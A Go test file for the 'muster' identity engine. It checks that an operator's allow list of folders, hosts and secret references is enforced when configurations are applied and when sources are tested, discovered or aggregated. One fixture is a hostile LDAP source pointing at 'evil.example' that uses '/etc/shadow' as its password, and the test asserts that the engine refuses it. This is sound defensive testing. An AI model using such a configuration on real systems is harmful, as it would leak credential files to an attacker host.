package engine_test

import (
	"context"
	"errors"
	"fmt"
	"os"
	"path/filepath"
	"strings"
	"testing"

	"github.com/muster-engine/muster/engine"
	"github.com/muster-engine/muster/engine/connector"
	"github.com/muster-engine/muster/engine/connector/delimited"
	"github.com/muster-engine/muster/engine/connector/ldap"
	"github.com/muster-engine/muster/engine/connector/secret"
)

// folderSource is a source whose accounts are files of a folder.
func folderSource(folder, more string) string {
	return fmt.Sprintf(`
sources:
  - name: HR
    connector: delimited-folder
    connectorAttributes: {folder: %q, delimiter: ","%s}
    schemas: [{name: account, identityAttribute: id, attributes: [{name: id}, {name: mail}]}]`, folder, more)
}

func applyText(ctx context.Context, t *testing.T, eng *engine.Engine, text string, options ...engine.ApplyOption) error {
	t.Helper()
	documents, err := engine.ReadDocuments("t.yaml", strings.NewReader(text))
	if err != nil {
		t.Fatal(err)
	}
	_, err = eng.Apply(ctx, documents, options...)
	return err
}

func demandForbidden(t *testing.T, err error, parts ...string) {
	t.Helper()
	if engine.KindOf(err) != engine.Forbidden {
		t.Errorf("got %v, want one of the kind Forbidden", err)
		return
	}
	for _, part := range parts {
		if !strings.Contains(err.Error(), part) {
			t.Errorf("got %v, want %s in it", err, part)
		}
	}
}

// Without a list the operator's documents may name everything, and documents of others nothing; what a source names
// already stays, as long as its settings do.
func TestUntrustedDocumentsNameNothing(t *testing.T) {
	t.Parallel()
	f := newFixture(t)
	ctx, folder := t.Context(), t.TempDir()
	text := folderSource(folder, "")
	demandForbidden(t, applyText(ctx, t, f.Engine, text, engine.Untrusted()), `source "HR": connectorAttributes.folder`, folder)
	if objects, err := f.Engine.ConfigurationObjects(ctx, engine.TypeSource); err != nil || len(objects) > 0 {
		t.Fatalf("%v %v: nothing is stored of what is refused", objects, err)
	}
	if err := applyText(ctx, t, f.Engine, text); err != nil {
		t.Fatal(err)
	}
	described := strings.Replace(text, "- name: HR", "- name: HR\n    description: The people", 1)
	if err := applyText(ctx, t, f.Engine, described, engine.Untrusted()); err != nil {
		t.Errorf("the settings stay: %v", err)
	}
	demandForbidden(t, applyText(ctx, t, f.Engine, folderSource(folder, `, hasHeader: true`), engine.Untrusted()), folder)
	steal := `
sources:
  - name: Directory
    connector: ldap
    connectorAttributes: {url: "ldap://evil.example", userBase: "dc=example", bindDN: "cn=a", password: "file:/etc/shadow"}`
	demandForbidden(t, applyText(ctx, t, f.Engine, steal, engine.Untrusted()), `"evil.example:389"`, `"file:/etc/shadow"`)
}

// The operator's list is asked for when a document is applied, and again when a source is tested, discovered and
// aggregated, so that what was applied before, or by another engine, does not go round it.
func TestAllowIsAskedAgain(t *testing.T) {
	t.Parallel()
	folder, other := t.TempDir(), t.TempDir()
	for _, dir := range []string{folder, other} {
		if err := os.WriteFile(filepath.Join(dir, "accounts.csv"), []byte("id,mail\n1,a@example.com\n"), 0o600); err != nil {
			t.Fatal(err)
		}
	}
	connectors := map[string]connector.Factory{"delimited-folder": delimited.New, "ldap": ldap.New}
	config := smallBatches
	config.Connectors, config.Secret = connectors, secret.Read
	f := newFixtureWith(t, config)
	ctx := t.Context()
	config.Allow = &engine.Allow{Folders: []string{folder}, Hosts: []string{"127.0.0.1:9"}, Secrets: []string{"env:MUSTER_TEST_*"}}
	limited, err := engine.New(ctx, f.Pool, config)
	if err != nil {
		t.Fatal(err)
	}
	demandForbidden(t, applyText(ctx, t, limited, folderSource(other, "")), other)
	if err := applyText(ctx, t, limited, folderSource(folder, ""), engine.Untrusted()); err != nil {
		t.Fatal(err)
	}
	if err := limited.TestSource(ctx, "HR"); err != nil {
		t.Error(err)
	}
	if _, err := limited.AggregateSource(ctx, "HR", engine.AggregateOptions{}); err != nil {
		t.Error(err)
	}
	if err := applyText(ctx, t, f.Engine, folderSource(other, "")); err != nil { // an engine without a list
		t.Fatal(err)
	}
	demandForbidden(t, limited.TestSource(ctx, "HR"), "test the source HR", other)
	_, err = limited.DiscoverSource(ctx, "HR")
	demandForbidden(t, err, "discover the source HR", other)
	_, err = limited.AggregateSource(ctx, "HR", engine.AggregateOptions{})
	demandForbidden(t, err, "aggregate HR", other)
	if _, err := f.Engine.AggregateSource(ctx, "HR", engine.AggregateOptions{}); err != nil {
		t.Errorf("the engine without a list: %v", err)
	}
	directory := `
sources:
  - name: Directory
    connector: ldap
    connectorAttributes: {url: "ldap://%s", userBase: "dc=example", bindDN: "cn=a", password: %q}`
	if err := applyText(ctx, t, f.Engine, fmt.Sprintf(directory, "127.0.0.1:1", "env:HOME")); err != nil {
		t.Fatal(err)
	}
	demandForbidden(t, limited.TestSource(ctx, "Directory"), `"127.0.0.1:1"`, `"env:HOME"`)
	if err := applyText(ctx, t, limited, fmt.Sprintf(directory, "127.0.0.1:9", "env:MUSTER_TEST_NO_SUCH"), engine.Untrusted()); err != nil {
		t.Fatal(err)
	}
	if err := limited.TestSource(ctx, "Directory"); err == nil || engine.KindOf(err) == engine.Forbidden {
		t.Errorf("got %v, want what the connector says", err)
	}
}

// A connector of the host's gets no secret that is not allowed, also where its settings do not show the reference.
func TestSecretIsAskedFor(t *testing.T) {
	t.Parallel()
	var got error
	config := smallBatches
	config.Secret = func(string) (string, error) { return "hunter2", nil }
	config.Allow = &engine.Allow{Secrets: []string{"env:CRM_KEY"}}
	config.Connectors = map[string]connector.Factory{"crm": func(_ context.Context, c connector.Config) (connector.Connector, error) {
		if text, err := c.Secret("env:CRM_KEY"); err != nil || text != "hunter2" {
			t.Errorf("an allowed secret: %q %v", text, err)
		}
		_, got = c.Secret("env:" + "OTHER")
		return nil, errors.New("no connection")
	}}
	f := newFixtureWith(t, config)
	if err := applyText(t.Context(), t, f.Engine, `sources: [{name: CRM, connector: crm}]`); err != nil {
		t.Fatal(err)
	}
	if err := f.Engine.TestSource(t.Context(), "CRM"); engine.KindOf(err) != engine.Unavailable {
		t.Error(err)
	}
	if got == nil || !strings.Contains(got.Error(), `"env:OTHER" is not allowed`) {
		t.Errorf("got %v, want a refusal", got)
	}
}

func TestNewRefusesAllowWithoutMeaning(t *testing.T) {
	t.Parallel()
	f := newFixture(t)
	_, err := engine.New(t.Context(), f.Pool, engine.Config{Allow: &engine.Allow{Folders: []string{"data"}}})
	if engine.KindOf(err) != engine.Invalid || !strings.Contains(err.Error(), "Allow.Folders[0]") {
		t.Errorf("got %v", err)
	}
}
